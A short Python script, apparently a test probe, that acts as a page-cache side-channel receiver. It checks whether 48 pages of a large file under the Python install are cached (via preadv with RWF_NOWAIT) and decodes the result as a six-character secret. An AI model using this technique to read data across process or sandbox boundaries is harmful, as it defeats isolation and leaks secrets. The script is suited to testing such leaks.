# tries: secret
# about: reads it: which pages of the file are in memory
# then: secret

import os, sys

best = max((os.path.join(top, name) for top, _, names in os.walk(sys.prefix) for name in names
            if ".so" not in name and not os.path.islink(os.path.join(top, name))), key=os.path.getsize)
file = os.open(best, os.O_RDONLY)
os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
def cached(place):
    try:
        return os.preadv(file, [bytearray(1)], place, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False
print(sum(cached((place + 1) << 16) << place for place in range(48)).to_bytes(6, "big").decode(errors="replace"))
